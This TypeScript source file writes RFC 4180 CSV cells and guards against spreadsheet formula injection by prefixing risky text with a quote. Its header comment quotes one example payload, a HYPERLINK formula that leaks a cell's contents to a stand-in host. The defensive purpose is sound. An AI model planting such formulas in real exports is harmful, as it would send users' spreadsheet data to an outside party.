/**
 * Writing CSV: the one cell encoder every CSV the app or the CLI writes goes through (chart data today; any other
 * CSV writer must use `csvField`/`csvRecord` too).
 *
 * Formula injection: a spreadsheet opening a CSV evaluates a cell that starts with `=`, `+`, `-` or `@` (and Excel
 * also one starting with TAB or CR), so a page name or post text such as `=HYPERLINK("http://x/?leak="&A2,"go")`
 * becomes a live formula. Following OWASP, such text cells get a leading `'`, which spreadsheets show as text.
 * Only text is touched: a value that is a number (a numeric column: -3, +1.5 as written by `String`) stays a number,
 * while the *text* "-3" (a page called "-3") is prefixed like any other text that starts with a trigger; what a text
 * column holds is never re-read as a number.
 */

/** What makes a spreadsheet read a cell as a formula (OWASP CSV Injection). */
const FORMULA_START = /^[=+\-@\t\r]/

/** Text that a spreadsheet would evaluate, with a `'` in front; any other text as it is. */
export const neutraliseFormula = (s: string): string => (FORMULA_START.test(s) ? `'${s}` : s)

/** One RFC 4180 field: null empty, numbers as written by `String`, text neutralised and quoted where needed. */
export function csvField(v: string | number | null): string {
  if (v === null) return ''
  if (typeof v === 'number') return String(v)
  const s = neutraliseFormula(v)
  // Quote a separator, quote or line break, and leading/trailing spaces (some readers trim unquoted ones).
  return /[",\r\n]/.test(s) || /^\s|\s$/.test(s) ? `"${s.replace(/"/g, '""')}"` : s
}

/** One CSV record (no line terminator). */
export const csvRecord = (cells: readonly (string | number | null)[]): string => cells.map(csvField).join(',')
